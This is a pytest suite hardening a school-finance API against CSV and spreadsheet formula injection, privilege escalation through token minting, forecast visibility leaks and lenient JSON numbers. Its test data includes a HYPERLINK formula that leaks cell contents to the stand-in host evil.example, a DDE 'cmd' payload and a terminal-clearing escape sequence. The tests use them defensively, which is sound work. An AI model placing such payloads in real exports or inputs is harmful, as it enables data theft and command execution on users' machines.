"""Issue 12 ("Hardening"), the API's part: each finding replayed against a real bursard and
the real throwaway MariaDB, loopback only, bounded.

 5  spreadsheet formulas: refused in every free-text field, and neutralised in every CSV
    export whatever is stored (the forecast, allocations, central services statement and
    budget CSVs)
 7  the API's admin manages business manager, school system and auditor tokens only;
    finance director and admin tokens come from `bursard token create` on the server; the
    list is readable by the finance director and auditors
 8  GET /forecasts/compare applies each run's visibility as GET /forecasts/{id} does
12  numbers as JSON writes them (012, 1., 1e-400 refused naming the field); a year PUT
    carries every field
14  a 20,000-line budget imported as CSV can be PUT back as JSON; the token replay 409
    names the real revoke route
"""
import csv
import io
import re

import pytest

from conftest import (CONF, Daemon, DIR, MAX_BUDGET_BODY, audit_max, config_text, error_fields, expect,
                      free_port, problem, publish_run, sql, sql_rows, sql_value, unchanged)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TOKEN_TABLES = ("SELECT * FROM api_tokens ORDER BY id", "SELECT * FROM api_token_schools ORDER BY token_id, school_id")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def scenario_id(name):
    return int(sql_value(f"SELECT id FROM scenarios WHERE name = '{name}' AND deleted_at IS NULL"))


def csv_rows(r):
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("text/csv"), r.headers
    assert r.content.startswith(b"\xef\xbb\xbf")       # every CSV export: a UTF-8 BOM
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


def formula_cells(rows):
    """Cells a spreadsheet would run: starting (after spaces) with = + - @, a tab or CR,
    other than the numbers we write (-12.34)."""
    return [c for row in rows for c in row
            if c.lstrip(" ").startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


# ---- 5: formulas in, formulas out ----

@pytest.mark.parametrize("value,why", [
    (EVIL, "formula"), ("+44 cmd", "formula"), ("-2+3", "formula"), ("@SUM(A1)", "formula"),
    ("  =1+1", "formula"), ("Bad\x1b[2J name", "control"), ("Two\nlines", "control")])
def test_free_text_refused_everywhere(api, first_urn, value, why):
    """school, supplier and contact names, contract titles and token labels, as budget
    descriptions and service and scenario names already were: one rule."""
    school = expect(api.get(f"/api/v1/schools/{first_urn}", role="finance_director"), 200)
    etag = f'"{school["version"]}"'
    supplier = {"name": "Abuse Test Ltd", "companies_house_number": None, "vat_number": None,
                "contact_name": "Sam", "contact_email": "", "contact_phone": "+44 20 7946 0000",
                "related_party": False}
    a0 = audit_max()
    with unchanged("SELECT * FROM schools ORDER BY id", "SELECT * FROM suppliers ORDER BY id", *TOKEN_TABLES):
        body = {k: school[k] for k in ("name", "phase", "local_authority", "finance_model", "floor_area_m2")}
        for field in ("name", "local_authority"):
            p = problem(api.put(f"/api/v1/schools/{first_urn}", role="finance_director", json=dict(body, **{field: value}),
                                headers={"If-Match": etag}), 422, "validation", [f"/{field}"])
            assert (why == "formula") == ("formula" in p["errors"][0]["message"]), p
        for field in ("name", "contact_name"):
            problem(api.post("/api/v1/suppliers", role="finance_director", json=dict(supplier, **{field: value})),
                    422, "validation", [f"/{field}"])
        problem(api.post("/api/v1/tokens", role="admin", json={"role": "auditor", "label": value}),
                422, "validation", ["/label"])
    assert audit_max() == a0


def test_contract_title_refused(api):
    from test_contracts import contract_body
    sid = int(sql_value("SELECT MIN(id) FROM suppliers"))
    with unchanged("SELECT * FROM contracts ORDER BY id"):
        for title in (EVIL, "-1 laptops", "tab\there"):
            problem(api.post("/api/v1/contracts", role="finance_director", json=contract_body(sid, title=title)),
                    422, "validation", ["/title"])


@pytest.mark.parametrize("field,value", [("notice_unit", None), ("notice_unit", 5), ("indexation", None),
                                         ("indexation", ["fixed"])])
def test_contract_with_a_null_or_mistyped_choice_is_422(api, daemon, field, value):
    """Found by tests/fuzz/fuzz_bodies: contract_body_parse went on after these errors and
    compared the missing string (strcmp(NULL)): the worker, and the daemon, died."""
    from test_contracts import contract_body
    sid = int(sql_value("SELECT MIN(id) FROM suppliers"))
    with unchanged("SELECT * FROM contracts ORDER BY id"):
        problem(api.post("/api/v1/contracts", role="finance_director", json=contract_body(sid, **{field: value})),
                422, "validation", [f"/{field}"])
    assert daemon.running()
    expect(api.get("/healthz"), 200)


def test_phone_may_start_with_plus_and_cli_labels_follow_the_rule(api, cli):
    # a phone number's own check allows only digits and + - ( ): it may start with +
    r = api.post("/api/v1/suppliers", role="finance_director",
                 json={"name": "Plus Phone Ltd", "contact_phone": "+44 20 7946 0001", "related_party": False})
    expect(r, 201)
    # the command line's labels follow the API's rule (and so cannot clear a terminal)
    with unchanged(*TOKEN_TABLES):
        for label in ("=cmd|' /C calc'!A0", "esc \x1b[2J"):
            cp = cli("token", "create", "--role", "auditor", "--label", label, check=False)
            assert cp.returncode != 0 and "label" in cp.stderr, cp.stderr


def test_people_names_follow_the_rule_passwords_do_not(api, daemon, first_urn):
    """A display name is free text (422); a password is a secret (JV_SECRET): it may start
    with anything, and signing in with it works."""
    import requests
    body = {"email": "abuse.pw@school.example", "display_name": "Pat Formula", "role": "business_manager",
            "schools": [first_urn]}
    problem(api.post("/api/v1/users", role="admin", json=dict(body, display_name=EVIL)), 422, "validation",
            ["/display_name"])
    pw = "=-+@ formula-looking pass phrase\t2026"
    expect(api.post("/api/v1/users", role="admin", json=dict(body, password=pw)), 201)
    with requests.Session() as s:
        r = s.post(daemon.url + "/api/v1/session", json={"email": body["email"], "password": pw},
                   headers={"Origin": daemon.url}, timeout=30)
        expect(r, 201)


@pytest.fixture
def stored_formulas(first_urn):
    """What older data or a direct write may hold: formulas in a school's name, its finance
    model and a budget line's description (restored afterwards)."""
    name, model = sql_rows(f"SELECT name, finance_model FROM schools WHERE urn = '{first_urn}'")[0]
    bid = sql_value(f"SELECT b.id FROM budgets b JOIN schools s ON s.id = b.school_id "
                    f"WHERE s.urn = '{first_urn}' AND b.year = 2026")
    lid, desc = sql_rows(f"SELECT id, description FROM budget_lines WHERE budget_id = {bid} ORDER BY line_no LIMIT 1")[0]
    q = EVIL.replace("'", "''")
    sql(f"UPDATE schools SET name = '{q}' WHERE urn = '{first_urn}'")
    sql(f"UPDATE budget_lines SET description = '@SUM(1+1)*cmd' WHERE id = {lid}")
    try:
        yield
    finally:
        sql(f"UPDATE schools SET name = '{name.replace(chr(39), chr(39) * 2)}' WHERE urn = '{first_urn}'")
        sql(f"UPDATE budget_lines SET description = '{desc.replace(chr(39), chr(39) * 2)}' WHERE id = {lid}")


def test_csv_exports_neutralise_formulas(stored_formulas, api, first_urn):
    """A daemon started after the write (no cache can hide it): no cell of any CSV export
    starts a formula, the stored text is there after a ', and money stays numbers."""
    d = Daemon("abuse-csv", conf=CONF.parent / "abuse-csv.conf")
    (CONF.parent / "abuse-csv.conf").write_text(config_text(d.port))
    d.start()
    try:
        base = d.url
        auth = {"Authorization": f"Bearer {api.tokens['finance_director']}", "Accept": "text/csv"}
        f = expect(api.post(base + "/api/v1/forecasts", role="finance_director",
                            json={"scenario": scenario_id("expected"), "entities": [first_urn], "horizon": 2}), 201)
        exports = {
            "forecast": api.get(f"{base}/api/v1/forecasts/{f['id']}", headers=auth),
            "allocations": api.get(base + "/api/v1/allocations", headers=auth, params={"year": "2026-27"}),
            "statement": api.get(base + "/api/v1/central-services-statement", headers=auth, params={"year": "2026-27"}),
            "budget": api.get(f"{base}/api/v1/schools/{first_urn}/budgets/2026-27", headers=auth),
        }
        for what, r in exports.items():
            rows = csv_rows(r)
            assert formula_cells(rows) == [], f"{what}: {formula_cells(rows)[:5]}"
            cells = [c for row in rows for c in row]
            if what != "budget":
                assert "'" + EVIL in cells, f"{what}: the name is not there, neutralised"
            else:
                assert "'@SUM(1+1)*cmd" in cells
        # the forecast: every line of the school names it, neutralised (the issue counted 36)
        rows = csv_rows(exports["forecast"])
        assert sum(1 for row in rows if row[1] == "'" + EVIL) >= 10
        # money is still a number, negative amounts too (-12.34 is no formula to neutralise)
        amounts = [row[8] for row in rows[1:]] + [row[7] for row in rows[1:] if row[7] != ""]
        assert all(NUMBER.fullmatch(a) for a in amounts), amounts
    finally:
        assert d.stop() == 0


# ---- 7: who mints which token ----

@pytest.mark.parametrize("role", ["finance_director", "admin"])
def test_admin_cannot_mint_finance_director_or_admin(api, role):
    with unchanged(*TOKEN_TABLES):
        a0 = audit_max()
        p = problem(api.post("/api/v1/tokens", role="admin", json={"role": role, "label": "sneaky"}), 403, "forbidden")
        assert f"bursard token create --role {role}" in p["detail"]
        assert audit_max() == a0


def test_admin_manages_the_other_roles_audited(api, first_urn, token_ids):
    for role, schools in (("business_manager", [first_urn]), ("school_system", [first_urn]), ("auditor", [])):
        a0 = audit_max()
        t = expect(api.post("/api/v1/tokens", role="admin", json={"role": role, "label": f"abuse {role}",
                                                                    "schools": schools}), 201)
        expect(api.post(f"/api/v1/tokens/{t['id']}/revoke", role="admin"), 204)
        rows = sql_rows(f"SELECT action, entity, entity_id, token_id FROM audit_log WHERE id > {a0} ORDER BY id")
        assert rows == [["create", "token", str(t["id"]), str(token_ids["admin"])],
                        ["revoke", "token", str(t["id"]), str(token_ids["admin"])]]


@pytest.mark.parametrize("role", ["finance_director", "admin"])
def test_admin_cannot_revoke_finance_director_or_admin(api, make_token, cli, role):
    tid, tok = make_token(role)
    with unchanged(*TOKEN_TABLES):
        a0 = audit_max()
        p = problem(api.post(f"/api/v1/tokens/{tid}/revoke", role="admin"), 403, "forbidden")
        assert f"bursard token revoke {tid}" in p["detail"]
        assert audit_max() == a0
    expect(api.get("/api/v1/tokens", token=tok), 200)          # still works
    # the server's command line does it, audited as the command line
    a0 = audit_max()
    cli("token", "revoke", str(tid))
    assert sql_rows(f"SELECT action, entity_id, token_id FROM audit_log WHERE id > {a0}") == [["revoke", str(tid), "NULL"]]


def test_the_token_list_is_for_the_finance_director_and_auditors(api, make_token):
    tid, tok = make_token("auditor", label="listed")
    for role in ("finance_director", "auditor", "admin"):
        items = expect(api.get("/api/v1/tokens", role=role), 200)["items"]
        mine = [t for t in items if t["id"] == tid]
        assert mine and mine[0]["label"] == "listed" and "token" not in mine[0] and tok not in str(items)
    for role in ("business_manager", "school_system"):
        problem(api.get("/api/v1/tokens", role=role), 403, "forbidden")
    # writing stays the admin's
    with unchanged(*TOKEN_TABLES):
        for role in ("finance_director", "auditor"):
            problem(api.post("/api/v1/tokens", role=role, json={"role": "auditor", "label": "x"}), 403, "forbidden")
            problem(api.post(f"/api/v1/tokens/{tid}/revoke", role=role), 403, "forbidden")


# ---- 8: compare shows no run the caller may not see ----

def test_compare_applies_each_runs_visibility(api, first_urn):
    mine = expect(api.post("/api/v1/forecasts", role="finance_director",
                           json={"scenario": scenario_id("expected"), "entities": [first_urn], "horizon": 1}), 201)
    mine2 = expect(api.post("/api/v1/forecasts", role="finance_director",
                            json={"scenario": scenario_id("cautious"), "entities": [first_urn], "horizon": 1}), 201)
    other = next(u for u in sql_rows("SELECT urn FROM schools WHERE kind = 'school' ORDER BY urn")[1:])[0]
    theirs = expect(api.post("/api/v1/forecasts", role="finance_director",
                             json={"scenario": scenario_id("expected"), "entities": [other], "horizon": 1}), 201)
    for run in (mine, mine2, theirs):
        publish_run(api, run["id"])
    problem(api.get(f"/api/v1/forecasts/{theirs['id']}", role="business_manager"), 403, "forbidden")
    for a, b in ((mine, theirs), (theirs, mine), (mine2, theirs)):
        r = api.get("/api/v1/forecasts/compare", role="business_manager", params={"runs": f"{a['id']},{b['id']}"})
        p = problem(r, 403, "forbidden")
        assert f"forecast run {theirs['id']}" in p["detail"]
        assert theirs["digest"] not in r.text
    c = expect(api.get("/api/v1/forecasts/compare", role="business_manager",
                       params={"runs": f"{mine['id']},{mine2['id']}"}), 200)
    assert {i["entity"] for i in c["items"]} == {first_urn}
    # the trust-wide roles still compare anything
    expect(api.get("/api/v1/forecasts/compare", role="auditor", params={"runs": f"{mine['id']},{theirs['id']}"}), 200)


# ---- 12: numbers as JSON writes them; a PUT carries every field ----

YEAR_OK = {"pupils": 300, "places": None, "fte": 20.5, "opening_reserves_pence": 100000, "reserves_basis": "estimated"}


def put_raw(api, path, text, **kw):
    return api.put(path, role="finance_director", body=text, **kw)


@pytest.mark.parametrize("text,status,field", [
    ('{"pupils": 012, "places": null, "fte": 20.5, "opening_reserves_pence": 1, "reserves_basis": "audited"}',
     400, "/pupils"),
    ('{"pupils": 300, "places": null, "fte": 20., "opening_reserves_pence": 1, "reserves_basis": "audited"}',
     400, "/fte"),
    ('{"pupils": 300, "places": null, "fte": 20.5, "opening_reserves_pence": 1e-400, "reserves_basis": "audited"}',
     422, "/opening_reserves_pence"),
    ('{"pupils": 1e400, "places": null, "fte": 20.5, "opening_reserves_pence": 1, "reserves_basis": "audited"}',
     422, "/pupils"),
    ('{"pupils": -00, "places": null, "fte": 20.5, "opening_reserves_pence": 1, "reserves_basis": "audited"}',
     400, "/pupils"),
])
def test_lenient_numbers_refused_naming_the_field(api, school_urns, text, status, field):
    path = f"/api/v1/schools/{school_urns[8]}/years/2071-72"
    with unchanged("SELECT * FROM school_years ORDER BY school_id, year"):
        p = problem(put_raw(api, path, text), status, "malformed-json" if status == 400 else "validation", [field])
        if status == 400:
            assert field in p["detail"]


def test_lenient_numbers_in_nested_bodies(api, school_urns):
    path = f"/api/v1/schools/{school_urns[8]}/budgets/2071-72"
    text = ('{"lines": [{"account_code": "I01", "amount_pence": 100, "description": "GAG"}, '
            '{"account_code": "E01", "amount_pence": 1e-400, "description": "Teachers"}]}')
    with unchanged("SELECT * FROM budgets ORDER BY id"):
        problem(put_raw(api, path, text), 422, "validation", ["/lines/1/amount_pence"])
        problem(put_raw(api, path, text.replace("1e-400", "0100")), 400, "malformed-json", ["/lines/1/amount_pence"])
    # the same numbers written as JSON writes them are fine
    expect(put_raw(api, path, text.replace("1e-400", "1e2")), 201)


def test_year_put_must_carry_every_field(api, school_urns):
    urn = school_urns[8]
    path = f"/api/v1/schools/{urn}/years/2070-71"
    expect(api.put(path, role="finance_director", json=YEAR_OK), 201)
    r = api.get(path, role="finance_director")
    with unchanged("SELECT * FROM school_years ORDER BY school_id, year"):
        p = problem(api.put(path, role="finance_director", json={}, headers={"If-Match": r.headers["ETag"]}),
                    422, "validation")
        assert sorted(error_fields(p)) == ["/fte", "/opening_reserves_pence", "/places", "/pupils", "/reserves_basis"]
        p = problem(api.put(path, role="finance_director", json={"pupils": 5}, headers={"If-Match": r.headers["ETag"]}),
                    422, "validation")
        assert "/pupils" not in error_fields(p) and "/fte" in error_fields(p)
        # the central team has no pupils or places: those may be left out
        p = problem(api.put("/api/v1/schools/central/years/2070-71", role="finance_director", json={}), 422)
        assert sorted(error_fields(p)) == ["/fte", "/opening_reserves_pence", "/reserves_basis"]
    y = expect(api.get(path, role="finance_director"), 200)
    assert y["pupils"] == 300 and y["opening_reserves_pence"] == 100000


# ---- 14: a big budget goes back as JSON; the replay names the real route ----

def test_token_replay_names_the_revoke_route(api):
    key = {"Idempotency-Key": "abuse-token-replay"}
    body = {"role": "auditor", "label": "abuse replay"}
    t = expect(api.post("/api/v1/tokens", role="admin", json=body, headers=key), 201)
    p = problem(api.post("/api/v1/tokens", role="admin", json=body, headers=key), 409, "conflict")
    assert f"POST /api/v1/tokens/{t['id']}/revoke" in p["detail"] and "DELETE" not in p["detail"]
    expect(api.post(f"/api/v1/tokens/{t['id']}/revoke", role="admin"), 204)


def test_20000_line_budget_put_back_as_json(api, school_urns):
    """The default http.max_budget_body_bytes is the CSV import's limit: what a CSV import
    took, a GET gives and a PUT takes back (the session daemon's limits are small)."""
    port = free_port()
    conf = DIR / "abuse-budget.conf"
    text = config_text(port).replace("max_csv_body_bytes = 1048576;", "max_csv_body_bytes = 16777216;")
    text = text.replace(f"max_budget_body_bytes = {MAX_BUDGET_BODY};", "")
    conf.write_text(text)
    d = Daemon("abuse-budget", port=port, conf=conf).start()
    try:
        urn, year = school_urns[7], "2072-73"
        url = f"{d.url}/api/v1/schools/{urn}/budgets/{year}"
        fd = {"Authorization": f"Bearer {api.tokens['finance_director']}"}
        rows = ["code,description,amount"] + [f"E01,Cost centre {i} supplies and sundries,{i % 997}.{i % 100:02d}"
                                              for i in range(19999)] + ["I01,GAG,90000000.00"]
        data = ("\r\n".join(rows) + "\r\n").encode()
        r = api.put(url, headers=dict(fd, **{"Content-Type": "text/csv"}), body=data, json_ct=False, timeout=60)
        expect(r, 201)
        g = api.get(url, headers=fd, timeout=60)
        b = expect(g, 200)
        # 20,000 typed lines and the computed charge (INT01, beyond the typed lines' limit)
        assert len(b["lines"]) == 20001 and b["lines"][-1]["computed"] and len(g.content) > 1048576, len(g.content)
        b["lines"][0]["amount_pence"] += 1
        r = api.put(url, headers=dict(fd, **{"If-Match": g.headers["ETag"]}), json=b, timeout=60)
        after = expect(r, 200)
        assert len(after["lines"]) == 20001 and after["lines"][0]["amount_pence"] == b["lines"][0]["amount_pence"]
    finally:
        assert d.stop() == 0
